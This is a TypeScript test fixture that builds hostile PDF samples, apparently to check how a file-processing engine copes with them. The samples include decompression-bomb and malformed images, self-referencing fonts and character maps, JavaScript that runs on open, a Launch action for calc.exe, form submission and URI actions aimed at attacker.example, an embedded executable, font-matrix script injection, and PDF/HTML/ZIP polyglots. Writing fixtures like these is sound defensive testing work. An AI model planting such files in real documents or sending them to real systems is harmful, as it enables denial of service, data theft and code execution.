import { flatJpeg } from '#engine/testing/flat-jpeg.ts'
import { HTML, joined, PAYLOAD, ZIP, type Bytes } from './hostile-file'
import type { Row } from './pdf-files'
import { compressedRun, objectStreamPdf, onePage, pdfOf, streamOf, type Part } from './pdf-writer'

const page = (parts: Parameters<typeof onePage>[0]): Bytes => pdfOf(onePage(parts))
const letter = (): Bytes => page({})
const many = (count: number, part: (index: number) => string): string =>
  Array.from({ length: count }, (_one, index) => part(index)).join('')

const withImage = (image: Part): Bytes =>
  page({ content: 'q 400 0 0 400 50 50 cm /I Do Q', resources: '/XObject << /I 6 0 R >>', extra: [image] })

const imageEntries = (width: number, height: number, bits = 8): string =>
  `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent ${bits} /ColorSpace /DeviceGray`

const images: Row[] = [
  [
    'PDF with an image of 30,000 x 30,000 pixels in 110 KB',
    'either',
    async () =>
      withImage(streamOf(await compressedRun(0, (30_000 * 30_000) / 8), `${imageEntries(30_000, 30_000, 1)} /Filter /FlateDecode`)),
    'slow',
  ],
  [
    'PDF with an image of 65,535 x 65,535 pixels and no data',
    'either',
    () => withImage(streamOf('', imageEntries(65_535, 65_535))),
    'slow',
  ],
  [
    'PDF with an image of 8,000 x 8,000 pixels in 8 KB',
    'accepted',
    async () => withImage(streamOf(await compressedRun(0, (8000 * 8000) / 8), `${imageEntries(8000, 8000, 1)} /Filter /FlateDecode`)),
  ],
  [
    'PDF with an image of four billion pixels a side',
    'either',
    () => withImage(streamOf('x', imageEntries(4_294_967_295, 4_294_967_295))),
    'slow',
  ],
  ['PDF with an image without pixels', 'either', () => withImage(streamOf('x', imageEntries(0, 0)))],
  ['PDF with an image of a negative size', 'either', () => withImage(streamOf('x', imageEntries(-10, -10)))],
  ['PDF with an image of 31 bits', 'either', () => withImage(streamOf('x'.repeat(1000), imageEntries(10, 10, 31)))],
  ['PDF with an image that masks itself', 'either', () => withImage(streamOf('x'.repeat(100), `${imageEntries(10, 10)} /SMask 6 0 R`))],
  [
    'PDF with an image in a colour space of itself',
    'either',
    () =>
      page({
        content: 'q 400 0 0 400 50 50 cm /I Do Q',
        resources: '/XObject << /I 6 0 R >>',
        extra: [
          streamOf('x'.repeat(100), '/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace 7 0 R'),
          '[/Indexed 7 0 R 255 (abc)]',
        ],
      }),
  ],
  [
    'PDF with a JPEG that is cut',
    'either',
    () => withImage(streamOf(flatJpeg({ columns: 8, rows: 8 }).slice(0, 200), `${imageEntries(64, 64)} /Filter /DCTDecode`)),
  ],
  ['PDF with a JPEG of text', 'either', () => withImage(streamOf(PAYLOAD, `${imageEntries(64, 64)} /Filter /DCTDecode`))],
  [
    'PDF with a JPEG 2000 of 4 billion pixels',
    'either',
    () =>
      withImage(
        streamOf(
          Uint8Array.from([
            0xff,
            0x4f,
            0xff,
            0x51,
            0,
            41,
            0,
            0,
            0xff,
            0xff,
            0xff,
            0xff,
            0xff,
            0xff,
            0xff,
            0xff,
            ...Array.from({ length: 60 }, () => 1),
          ]),
          `${imageEntries(64, 64)} /Filter /JPXDecode`,
        ),
      ),
    'slow',
  ],
  [
    'PDF with a fax image of 100,000 lines',
    'either',
    () =>
      withImage(
        streamOf(
          new Uint8Array(1000),
          `${imageEntries(10_000, 100_000, 1)} /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 10000 /Rows 100000 >>`,
        ),
      ),
  ],
  [
    'PDF with a JBIG2 image of text',
    'either',
    () => withImage(streamOf(PAYLOAD.repeat(20), `${imageEntries(64, 64, 1)} /Filter /JBIG2Decode`)),
  ],
]

const active: Row[] = [
  [
    'PDF with a script that runs when it opens',
    'accepted',
    () => page({ catalog: `/OpenAction << /S /JavaScript /JS (document.title='${PAYLOAD}';app.alert\\(1\\)) >>` }),
  ],
  [
    'PDF with 10,000 scripts',
    'either',
    () =>
      page({ catalog: `/Names << /JavaScript << /Names [${many(10_000, (index) => `(${index}) << /S /JavaScript /JS (x) >> `)}] >> >>` }),
  ],
  ['PDF that starts a program', 'accepted', () => page({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' })],
  ['PDF that opens an address', 'accepted', () => page({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/) >>' })],
  ['PDF that sends a form', 'accepted', () => page({ catalog: '/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>' })],
  [
    'PDF with a form of XFA',
    'either',
    () => page({ catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>', extra: [streamOf(`<xdp:xdp><template>${HTML}</template></xdp:xdp>`)] }),
  ],
  [
    'PDF with an embedded program',
    'accepted',
    () =>
      page({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 6 0 R >> >>] >> >>',
        extra: [streamOf(joined('MZ', PAYLOAD))],
      }),
  ],
  ['PDF with a font that is a script', 'either', () => fontFile(`/FontFile2`, HTML)],
  [
    'PDF with a font matrix of code',
    'either',
    () =>
      page({
        content: 'BT /F3 24 Tf 72 600 Td (a) Tj ET',
        resources: '/Font << /F3 6 0 R >>',
        extra: [
          `<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (1\\); document.title='${PAYLOAD}'//)] /FirstChar 97 /LastChar 97 /Widths [500] >>`,
        ],
      }),
  ],
  [
    'PDF with a font of random bytes',
    'either',
    () =>
      fontFile(
        '/FontFile3',
        Uint8Array.from({ length: 5000 }, (_one, index) => (index * 7919) % 251),
      ),
  ],
  [
    'PDF with a font of four billion tables',
    'either',
    () => fontFile('/FontFile2', Uint8Array.from([0, 1, 0, 0, 0xff, 0xff, ...Array.from({ length: 200 }, () => 0xff)])),
  ],
  [
    'PDF with a character map that uses itself',
    'either',
    () =>
      page({
        content: 'BT /F3 24 Tf 72 600 Td (a) Tj ET',
        resources: '/Font << /F3 6 0 R >>',
        extra: [
          '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 7 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> >>] >>',
          streamOf(
            '/UseCMap 7 0 R begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 begincidrange <00000000> <ffffffff> 0 endcidrange endcmap',
            '/Type /CMap /CMapName /X /UseCMap 7 0 R',
          ),
        ],
      }),
  ],
  ['PDF that is also a web page', 'accepted', () => pdfOf(onePage(), { header: joined(`%PDF-1.7\n%${HTML}\n`) })],
  ['web page that is also a PDF', 'either', () => pdfOf(onePage(), { header: joined(`${HTML}\n%PDF-1.7\n`) })],
  ['PDF followed by a web page', 'accepted', () => joined(letter(), HTML)],
  ['PDF followed by a ZIP archive', 'accepted', () => joined(letter(), ZIP)],
  ['ZIP archive followed by a PDF', 'either', () => joined(ZIP, letter())],
  ['PDF followed by another one', 'accepted', () => joined(letter(), letter())],
  [
    'PDF of object streams followed by a table',
    'either',
    async () => joined(await objectStreamPdf(), 'xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\nstartxref\n9\n%%EOF\n'),
  ],
]

function fontFile(key: string, file: Part): Bytes {
  return page({
    content: 'BT /F3 24 Tf 72 600 Td (abc) Tj ET',
    resources: '/Font << /F3 6 0 R >>',
    extra: [
      '<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 97 /LastChar 99 /Widths [500 500 500] /FontDescriptor 7 0 R /Encoding /WinAnsiEncoding >>',
      `<< /Type /FontDescriptor /FontName /X /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /StemV 80 ${key} 8 0 R >>`,
      streamOf(file),
    ],
  })
}

/** PDFs with images, fonts, scripts and other files in them. */
export const pdfParts: readonly Row[] = [...images, ...active]
